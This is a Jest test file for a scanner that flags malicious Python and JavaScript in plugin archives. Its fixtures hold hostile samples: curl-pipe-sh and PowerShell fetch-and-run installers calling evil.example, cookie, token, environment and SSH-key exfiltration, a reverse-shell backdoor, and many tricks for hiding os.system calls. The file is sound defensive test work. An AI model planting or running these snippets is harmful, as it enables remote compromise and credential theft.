import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { Finding } from '../../src/analysis/archive.js';
import { analyseFile, zipOf } from '../support/archives.js';

type Files = string | Record<string, string | Buffer>;

let folder: string;
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'registry-checks-'));
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

async function findingsOf(files: Files, off: string[] = []): Promise<readonly Finding[]> {
  const path = join(folder, 'archive.zip');
  writeFileSync(path, await zipOf(typeof files === 'string' ? { '__init__.py': files } : files));
  return (await analyseFile(path, off)).findings;
}

/** Returns the most severe level of an archive's findings, which are sorted by level. */
const levelOf = async (files: Files): Promise<string> => (await findingsOf(files))[0]?.level ?? 'none';

describe('the checks hold', () => {
  it.each<[string, Files]>([
    ['system at import', 'import os\nos.system("id")\n'],
    ['function called at module level', 'import os\ndef f():\n    os.system("id")\nf()\n'],
    ['class body', 'import os\nclass A:\n    os.system("id")\n'],
    ['decorator', 'import os\ndef d(f):\n    os.system("id")\n    return f\n@d\ndef g(): pass\n'],
    ['default argument', 'import os\ndef g(x=os.system("id")): pass\n'],
    ['lambda', 'import os\n(lambda: os.system("id"))()\n'],
    ['thread', 'import os, threading\nthreading.Thread(target=os.system, args=("id",)).start()\n'],
    [
      'thread of own function',
      'import os, threading\ndef f():\n    os.system("id")\nthreading.Thread(target=f).start()\n',
    ],
    [
      'thread subclass run',
      'import os, threading\nclass T(threading.Thread):\n    def run(self):\n        os.system("id")\nT().start()\n',
    ],
    [
      'across files',
      {
        '__init__.py': 'from . import a\n',
        'a.py': 'from .b import go\ngo()\n',
        'b.py': 'import subprocess\ndef go():\n    subprocess.run(["id"])\n',
      },
    ],
    ['value', 'import os\nf = os.system\nf("id")\n'],
    ['eval with builtins', 'def make(code):\n    return eval(code, {"__builtins__": __builtins__})\nmake(input())\n'],
    [
      'an unknown package',
      'import subprocess, sys\nsubprocess.run([sys.executable, "-m", "pip", "install", "numpyy"])\n',
    ],
    [
      'a well-known package from elsewhere',
      'import subprocess, sys\nsubprocess.run([sys.executable, "-m", "pip", "install", "numpy", "--index-url", "https://example.org"])\n',
    ],
    [
      'the environment',
      'import os, requests\nenv = os.environ.copy()\nrequests.post("https://example.org", json={"e": env})\n',
    ],
    [
      'a secret variable',
      'import os, requests\ndef f():\n    requests.get("https://example.org", params={"k": os.environ.copy()["AWS_KEY"]})\n',
    ],
    ['map', 'import os\nlist(map(os.system, ["id"]))\n'],
    ['import_module', 'import importlib\nimportlib.import_module("os").system("id")\n'],
    ['import_module joined', 'import importlib\nimportlib.import_module("o"+"s").system("id")\n'],
    ['__import__', '__import__("os").system("id")\n'],
    ['sys.modules', 'import sys\nsys.modules["os"].system("id")\n'],
    ['os.__dict__', 'import os\nos.__dict__["system"]("id")\n'],
    ['vars builtins', 'import builtins\nvars(builtins)["exec"]("1")\n'],
    ['getattr builtins', 'getattr(__builtins__, "ev"+"al")("1")\n'],
    ['__builtins__ dict', '__builtins__["eval"]("1")\n'],
    ['globals builtins', 'globals()["__builtins__"]["eval"]("1")\n'],
    ['subclasses', '[c for c in ().__class__.__base__.__subclasses__() if c.__name__=="Popen"][0]("id",shell=True)\n'],
    ['alias import', 'import os as o\nfrom os import system as s\ns("id")\n'],
    ['re-export', { '__init__.py': 'from .a import run\nrun("id")\n', 'a.py': 'from os import system as run\n' }],
    ['del exec', 'def exec(x): pass\ndel exec\nexec("1")\n'],
    ['ctypes', 'import ctypes\nctypes.CDLL(None).system(b"id")\n'],
    ['runpy', 'import runpy\nrunpy.run_path("x.dat")\n'],
    ['code', 'import code\ncode.InteractiveInterpreter().runsource("1")\n'],
    ['blob pieces', 'import base64\na="cHJp"\nb="bnQoMSk="\nexec(base64.b64decode(a+b))\n'],
    ['blob in function', 'import base64,zlib\ndef f():\n    exec(zlib.decompress(base64.b64decode("eA")))\n'],
    [
      'a script of brackets',
      { '__init__.py': 'WEB_DIRECTORY = "web"\n', 'web/a.js': `${'[][(![]+[])[+[]]+'.repeat(20)}[]]` },
    ],
    ['pth', { '__init__.py': '', 'x.pth': 'import os; os.system("id")\n' }],
    ['sitecustomize', { '__init__.py': '', 'sitecustomize.py': 'x=1\n' }],
    [
      'js theft',
      { '__init__.py': 'WEB_DIRECTORY="./web"\n', 'web/a.js': 'fetch("https://evil.example/c?"+document.cookie)\n' },
    ],
    [
      'js localstorage',
      {
        '__init__.py': 'WEB_DIRECTORY="./web"\n',
        'web/a.js': 'const k=localStorage.getItem("token");\nfetch("https://evil.example/",{method:"POST",body:k})\n',
      },
    ],
    ['install script of PowerShell', { '__init__.py': '', 'install.ps1': 'iwr https://evil.example/x.ps1 | iex\n' }],
    ['install script curl', { '__init__.py': '', 'install.sh': 'curl https://evil.example/x | sh\n' }],
    [
      'install.py fetch and run',
      {
        '__init__.py': '',
        'install.py':
          'import urllib.request,os\nurllib.request.urlretrieve("https://evil.example/x","/tmp/x")\nos.system("sh /tmp/x")\n',
      },
    ],
    [
      'install.py exec from net',
      {
        '__init__.py': '',
        'install.py': 'import urllib.request\nexec(urllib.request.urlopen("https://evil.example/x").read())\n',
      },
    ],
    ['pyc', { '__init__.py': '', 'a.pyc': 'x' }],
    ['setattr', 'import os, builtins\nsetattr(builtins,"print",os.system)\nprint("id")\n'],
    ['dict of functions', 'import os\nd={"a":os.system}\nd["a"]("id")\n'],
    ['property', 'import os\nclass A:\n    @property\n    def x(self):\n        os.system("id")\nA().x\n'],
    ['__getattr__ module', 'import os\nclass A:\n    def __getattr__(self,n):\n        os.system("id")\nA().foo\n'],
    ['__del__', 'import os\nclass A:\n    def __del__(self):\n        os.system("id")\nA()\n'],
    [
      '__init_subclass__',
      'import os\nclass A:\n    def __init_subclass__(cls):\n        os.system("id")\nclass B(A): pass\n',
    ],
    [
      'metaclass',
      'import os\nclass M(type):\n    def __new__(m,*a):\n        os.system("id")\n        return type.__new__(m,*a)\nclass B(metaclass=M): pass\n',
    ],
    [
      'context manager',
      'import os\nclass A:\n    def __enter__(self):\n        os.system("id")\n    def __exit__(self,*a): pass\nwith A(): pass\n',
    ],
    ['atexit', 'import os, atexit\natexit.register(os.system,"id")\n'],
    ['partial', 'import os, functools\nfunctools.partial(os.system,"id")()\n'],
    ['generator', 'import os\ndef g():\n    yield os.system("id")\nlist(g())\n'],
    ['async', 'import asyncio, os\nasync def m():\n    os.system("id")\nasyncio.run(m())\n'],
    [
      'INPUT_TYPES',
      'import os\nclass A:\n    @classmethod\n    def INPUT_TYPES(s):\n        os.system("id")\n        return {}\nNODE_CLASS_MAPPINGS={"A":A}\n',
    ],
    ['network import', 'import requests\nrequests.post("https://x.example",data="a")\n'],
    ['pip at import', 'import subprocess,sys\nsubprocess.check_call([sys.executable,"-m","pip","install","x"])\n'],
    ['from os import *', 'from os import *\nsystem("id")\n'],
    ['rot13', '# coding: rot13\nx=1\n'],
    ['types.FunctionType', 'import types,marshal\ntypes.FunctionType(marshal.loads(b"x"),{})()\n'],
    ['pickle blob', 'import pickle\npickle.loads(b"cos\\nsystem\\n(S\'id\'\\ntR.")\n'],
    [
      'socket backdoor',
      'import socket,subprocess,os\ns=socket.socket()\ns.connect(("1.2.3.4",1))\nos.dup2(s.fileno(),0)\nsubprocess.call(["/bin/sh","-i"])\n',
    ],
    [
      'env exfil in node',
      'import os,requests\nclass A:\n    def run(self):\n        requests.post("https://x.example",json=dict(os.environ))\nNODE_CLASS_MAPPINGS={"A":A}\n',
    ],
    [
      'ssh key',
      'class A:\n    def run(self):\n        import os,requests\n        d=open(os.path.expanduser("~/.ssh/id_rsa")).read()\n        requests.post("https://x.example",data=d)\nNODE_CLASS_MAPPINGS={"A":A}\n',
    ],
    ['operator.attrgetter', 'import os,operator\noperator.attrgetter("system")(os)("id")\n'],
    ['methodcaller', 'import os,operator\noperator.methodcaller("system","id")(os)\n'],
    ['getattr split', 'import os\ngetattr(os,"metsys"[::-1])("id")\n'],
    ['chr', 'import os\ngetattr(os,"".join(map(chr,[115,121])))("id")\n'],
    ['exec via type', 'type("X",(),{"__init__":lambda s: __import__("os").system("id")})()\n'],
    [
      'signal handler',
      'import signal,os\nsignal.signal(signal.SIGALRM, lambda *a: os.system("id"))\nsignal.alarm(1)\n',
    ],
    ['sys.settrace', 'import sys,os\nsys.settrace(lambda *a: os.system("id"))\n'],
    [
      'import hook',
      'import sys,os\nclass F:\n    def find_spec(self,*a):\n        os.system("id")\nsys.meta_path.append(F())\n',
    ],
    ['multiprocessing', 'import multiprocessing,os\nmultiprocessing.Process(target=os.system,args=("id",)).start()\n'],
    [
      'executor',
      'from concurrent.futures import ThreadPoolExecutor\nimport os\nThreadPoolExecutor().submit(os.system,"id")\n',
    ],
    ['timer', 'import threading,os\nthreading.Timer(1,os.system,["id"]).start()\n'],
    ['walrus', 'import os\n(f:=os.system)("id")\n'],
    ['tuple unpack', 'import os\na,b=os.system,1\na("id")\n'],
    ['list index', 'import os\n[os.popen][0]("id")\n'],
    ['or', 'import os\n(None or os.system)("id")\n'],
    ['try except', "try:\n    import nope\nexcept ImportError:\n    import os\n    os.system('pip install nope')\n"],
    ['star args', 'import os\nos.system(*["id"])\n'],
    ['comprehension', 'import os\n[os.system(c) for c in ["id"]]\n'],
    ['nested def', 'import os\ndef a():\n    def b():\n        os.system("id")\n    return b\na()()\n'],
    ['class attr call', 'import os\nclass A:\n    f=staticmethod(os.system)\nA.f("id")\n'],
    ['posix', 'import posix\nposix.system("id")\n'],
    ['_posixsubprocess', 'import _posixsubprocess\n_posixsubprocess.fork_exec()\n'],
    ['os via other module', 'import shutil\nshutil.os.system("id")\n'],
    ['logging.os', 'from logging import os as o\no.system("id")\n'],
  ])('%s', async (_what, files) => expect(await levelOf(files)).toBe('hold'));
});

describe('the checks warn of', () => {
  it.each<[string, Files]>([
    ['eval user input at run', 'class A:\n    def run(self,x):\n        return eval(x)\nNODE_CLASS_MAPPINGS={"A":A}\n'],
    [
      'ffmpeg in node',
      'import subprocess\nclass A:\n    def run(self,x):\n        subprocess.run(["ffmpeg","-i",x])\nNODE_CLASS_MAPPINGS={"A":A}\n',
    ],
    [
      'requests in node',
      'import requests\nclass A:\n    def run(self,x):\n        return requests.get(x)\nNODE_CLASS_MAPPINGS={"A":A}\n',
    ],
    [
      'pickle',
      'import pickle\nclass A:\n    def run(self,x):\n        return pickle.load(open(x,"rb"))\nNODE_CLASS_MAPPINGS={"A":A}\n',
    ],
    [
      'torch.load',
      'import torch\nclass A:\n    def run(self,x):\n        return torch.load(x)\nNODE_CLASS_MAPPINGS={"A":A}\n',
    ],
    [
      'install.py pip',
      {
        '__init__.py': '',
        'install.py':
          'import subprocess,sys\nsubprocess.check_call([sys.executable,"-m","pip","install","-r","requirements.txt"])\n',
      },
    ],
    ['req list', { '__init__.py': '', 'requirements.txt': '-r deps/gpu.txt\n' }],
    [
      'req of another encoding',
      { '__init__.py': '', 'requirements.txt': Buffer.from('\uFEFF--index-url https://e.example\n', 'utf16le') },
    ],
    [
      'req in settings',
      { '__init__.py': '', 'pyproject.toml': '[project]\ndependencies = ["a", "b @ https://e.example/b.whl"]\n' },
    ],
    ['req url', { '__init__.py': '', 'requirements.txt': 'git+https://github.com/a/b\n' }],
    ['pycache', { '__init__.py': '', 'a.py': '', '__pycache__/a.cpython-311.pyc': 'x' }],
    [
      'git version at import',
      'import subprocess\ntry:\n    v=subprocess.check_output(["git","rev-parse","HEAD"])\nexcept Exception:\n    v=None\n',
    ],
    [
      'a copy of namedtuple, whose code has no builtins',
      'def make(name):\n    space = {"__builtins__": {}, "x": name}\n    return eval(f"lambda a: {name}", space)\nmake("a")\n',
    ],
    [
      'well-known packages at import',
      'import subprocess, sys\ndef install(name, version):\n    subprocess.run([sys.executable, "-s", "-m", "pip", "install", name + "==" + version])\ntry:\n    import lark\nexcept ImportError:\n    install("lark", "1.1.9")\n',
    ],
    [
      'a server given a port by the environment',
      'import os, requests, subprocess\nclass A:\n    def run(self):\n        env = os.environ.copy()\n        process = subprocess.Popen(["worker"], env=env)\n        requests.get("http://localhost", params={"pid": process.pid, "port": env.get("WORKER_PORT")})\nNODE_CLASS_MAPPINGS={"A":A}\n',
    ],
    [
      'suspending the computer in a node',
      'import subprocess\nclass A:\n    def run(self):\n        subprocess.run(["rundll32.exe", "powrprof.dll,SetSuspendState", "0,1,0"])\nNODE_CLASS_MAPPINGS={"A":A}\n',
    ],
    [
      'a credential for its own service',
      'import os\nfrom huggingface_hub import snapshot_download\nclass A:\n    def run(self, model):\n        snapshot_download("org/model.bin", token=os.getenv("HF_TOKEN"))\nNODE_CLASS_MAPPINGS={"A":A}\n',
    ],
    [
      'functions that are only stored',
      'import os\ndef f():\n    os.system("id")\nall_of = dict(reversed(list({"f": f}.items())))\n',
    ],
    ['main block', 'import os\nif __name__=="__main__":\n    os.system("id")\n'],
    ['yaml unsafe', 'import yaml\nyaml.load(open("a"),Loader=yaml.Loader)\n'],
    [
      'server route',
      {
        '__init__.py':
          'from server import PromptServer\nimport subprocess\n@PromptServer.instance.routes.get("/x")\nasync def x(r):\n    subprocess.run(["ls"])\n',
      },
    ],
  ])('%s', async (_what, files) => expect(await levelOf(files)).toBe('warn'));
});

describe('the checks note', () => {
  it.each<[string, Files]>([['unreached', { '__init__.py': '', 'tools/x.py': 'import os\nos.system("id")\n' }]])(
    '%s',
    async (_what, files) => expect(await levelOf(files)).toBe('note'),
  );
});

describe('the checks accept', () => {
  it.each<[string, Files]>([
    [
      'torch.load weights_only',
      'import torch\nclass A:\n    def run(self,x):\n        return torch.load(x, weights_only=True)\nNODE_CLASS_MAPPINGS={"A":A}\n',
    ],
    [
      'param eval',
      'class A:\n    def run(self, eval=False):\n        if eval:\n            return 1\nNODE_CLASS_MAPPINGS={"A":A}\n',
    ],
    ['model.eval', 'import torch\nmodel = torch.nn.Linear(1,1)\nmodel.eval()\n'],
    ['literal_eval', 'import ast\nx = ast.literal_eval("1")\n'],
    [
      'own loop',
      {
        '__init__.py':
          'import os, importlib\nfor f in os.listdir(os.path.dirname(__file__)):\n    if f.endswith(".py") and f!="__init__.py":\n        importlib.import_module("."+f[:-3], __name__)\n',
        'a.py': 'x=1\n',
      },
    ],
    [
      'spec_from_file',
      {
        '__init__.py':
          'import os, importlib.util, glob\nfor p in glob.glob(os.path.join(os.path.dirname(__file__),"nodes","*.py")):\n    s=importlib.util.spec_from_file_location("x",p)\n    m=importlib.util.module_from_spec(s)\n    s.loader.exec_module(m)\n',
        'nodes/a.py': 'x=1\n',
      },
    ],
    ['re.compile', 'import re\nx=re.compile("a")\n'],
    ['torch.compile', 'import torch\nm=torch.compile(1)\n'],
    ['own exec function', 'def exec(x):\n    return x\nexec(1)\n'],
    ['mention in string', 'x="os.system(1)"\n# eval(x)\n'],
    [
      'js honest storage',
      {
        '__init__.py': 'WEB_DIRECTORY="./web"\n',
        'web/a.js': 'const s=localStorage.getItem("theme");\ndocument.body.className=s;\nfetch("/api/x")\n',
      },
    ],
    [
      'long text',
      'x="a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word a word "\n',
    ],
    ['own method open', 'class A:\n    def system(self): pass\nA().system()\n'],
    ['named load', "import json\nx=json.loads('{}')\n"],
    ['importlib reload own', 'import importlib\nfrom . import a\nimportlib.reload(a)\n'],
  ])('%s', async (_what, files) => expect(await findingsOf(files)).toEqual([]));
});

describe('a finding', () => {
  it.each<[string, Files, Partial<Finding>]>([
    [
      'of a renamed module',
      'import subprocess as sp\nsp.run(["ls"])\n',
      { rule: 'shell', line: 2, call: 'sp.run(["ls"])' },
    ],
    [
      'in a long function of a class in a function',
      `def f():\n    class A:\n        def g(self):\n            x = "${'x'.repeat(300)}"\n            open(x)\n            eval(x)\n    A().g()\nf()\n`,
      { rule: 'dynamic-code', line: 6, call: 'eval(x)' },
    ],
    ['of eval', 'x = 1\neval(x)\n', { rule: 'dynamic-code', line: 2, call: 'eval(x)' }],
    ['of eval in other letters', 'x = 1\n\uff45val(x)\n', { rule: 'dynamic-code', line: 2 }],
    ['of pip', 'import pip\npip.main(["install", "x"])\n', { rule: 'install-at-run-time', line: 2 }],
    ['of hidden code', 'import base64\nexec(base64.b64decode("eA=="))\n', { rule: 'obfuscation', line: 2 }],
    ['of the network', 'import requests\nr = requests.get("https://x")\n', { rule: 'network-at-import', line: 2 }],
    ['of another encoding', '# coding: rot13\nx = 1\n', { rule: 'obfuscation', line: 1 }],
    ['of a compiled file', { '__init__.py': '', 'a.so': 'x' }, { rule: 'compiled-code', file: 'a.so' }],
  ])('%s has a file and line, and is left out if its check is off', async (_what, files, expected) => {
    const found = await findingsOf(files);
    expect(found).toMatchObject([{ level: 'hold', message: expect.any(String), ...expected }]);
    expect(await findingsOf(files, [expected.rule!])).toEqual([]);
  });
});
